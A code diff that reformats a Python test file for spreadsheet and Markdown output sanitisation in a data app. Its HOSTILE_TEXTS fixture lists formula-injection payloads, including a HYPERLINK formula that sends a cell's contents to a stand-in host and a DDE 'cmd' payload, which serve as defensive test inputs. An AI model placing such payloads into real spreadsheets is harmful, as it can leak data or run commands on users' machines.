@@ -20,8 +20,15 @@ from iga_data.reading import read_sources
 from iga_data.settings import default_settings
 
 ROOT = Path(__file__).resolve().parents[2]
-HOSTILE_TEXTS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+1+2", "-3+4", "@SUM(A1:A9)",
-                 "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
+    "+1+2",
+    "-3+4",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def test_markdown_links_images_and_headings_stay_text():
@@ -30,8 +37,10 @@ def test_markdown_links_images_and_headings_stay_text():
     # CommonMark: a backslash before ASCII punctuation shows the character itself, nothing more.
     unescaped = re.findall(r"(?<!\\)[" + re.escape("[]()!#*:$`<>_|~") + "]", shown)
     assert unescaped == []
-    assert re.sub(r"\\(.)", r"\1", shown) == "[x](https://contoh.invalid) ![](http://contoh.invalid/a.png) " \
-                                             "# Judul *tebal* :red[merah] $x$"
+    assert (
+        re.sub(r"\\(.)", r"\1", shown) == "[x](https://contoh.invalid) ![](http://contoh.invalid/a.png) "
+        "# Judul *tebal* :red[merah] $x$"
+    )
 
 
 def test_markdown_escape_keeps_plain_words_and_flattens_line_breaks():
@@ -98,7 +107,8 @@ def test_every_workbook_the_app_writes_goes_through_safetext():
     for path in [*ROOT.glob("iga_data/**/*.py"), *ROOT.glob("ui/*.py"), ROOT / "app.py", *ROOT.glob("pages/*.py")]:
         relative, text = path.relative_to(ROOT).as_posix(), path.read_text()
         direct = re.search(r"(?<!safetext)\.to_excel\(", text) or (
-            re.search(r"\bWorkbook\(", text) and not re.search(r"safetext\.(text_cell|append)\(", text))
+            re.search(r"\bWorkbook\(", text) and not re.search(r"safetext\.(text_cell|append)\(", text)
+        )
         unsafe_writer = "ExcelWriter(" in text and "safetext.to_excel(" not in text
         if relative not in allowed and (direct or unsafe_writer):
             offenders.append(relative)
